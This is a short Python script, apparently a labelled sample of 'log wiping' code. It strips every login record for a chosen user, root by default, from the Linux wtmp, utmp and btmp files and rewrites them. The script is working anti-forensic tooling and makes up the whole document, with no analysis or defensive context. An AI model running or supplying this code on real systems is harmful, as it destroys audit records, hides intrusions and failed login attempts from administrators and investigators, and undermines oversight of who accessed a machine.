# class: log wiping, single logins cut out of wtmp; style: expert
import struct, sys
SIZE = 384
def clean(path, user):
    keep = b""
    data = open(path, "rb").read()
    for i in range(0, len(data), SIZE):
        rec = data[i:i + SIZE]
        name = rec[44:76].rstrip(b"\0").decode(errors="replace")
        if name != user: keep += rec
    open(path, "wb").write(keep)
for p in ("/var/log/wtmp", "/var/run/utmp", "/var/log/btmp"):
    clean(p, sys.argv[1] if len(sys.argv) > 1 else "root")
